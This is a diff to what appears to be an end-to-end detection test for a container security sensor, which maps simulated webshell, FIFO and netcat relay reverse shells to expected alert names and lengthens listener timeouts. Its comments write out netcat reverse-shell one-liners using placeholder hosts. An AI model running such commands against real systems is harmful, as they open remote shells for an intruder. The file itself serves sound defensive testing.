@@ -35,7 +35,8 @@ FIFO_PORT, RELAY_IN, RELAY_OUT = 9011, 9012, 9013
 EXPECTED: dict[str, set[str]] = {
     # a PHP-FPM worker running a command through system(): sh -c
     "webshell": {"podtrail_webshell_shell"},
-    # mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
+    # mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f (the handler keeps the shell
+    # busy a few seconds: the BCC sensor reads stdin from /proc after the exec, see PENDING)
     "fifo": {"podtrail_interactive_shell_no_tty", "podtrail_shell_pipe_network_tool", "podtrail_network_utility",
              "podtrail_corr_fifo_shell_relay"},
     # nc host 1 | /bin/sh | nc host 2
@@ -101,8 +102,8 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
     work = tmp_path_factory.mktemp("detect-e2e")
     rs = Rsyslog(work / "rsyslog")
     rs.start()
-    listeners = [listen(FIFO_PORT, b"sleep 2\nexit\n", hold=4.0), listen(RELAY_IN, b"id\nsleep 2\nexit\n", hold=4.0),
-                 listen(RELAY_OUT, hold=2.0)]
+    listeners = [listen(FIFO_PORT, b"sleep 6\nexit\n", hold=8.0), listen(RELAY_IN, b"id\nsleep 6\nexit\n", hold=8.0),
+                 listen(RELAY_OUT, hold=8.0)]
     cfg = Config()
     cfg.metrics.enabled = False
     cfg.spool_dir = str(work / "spool")
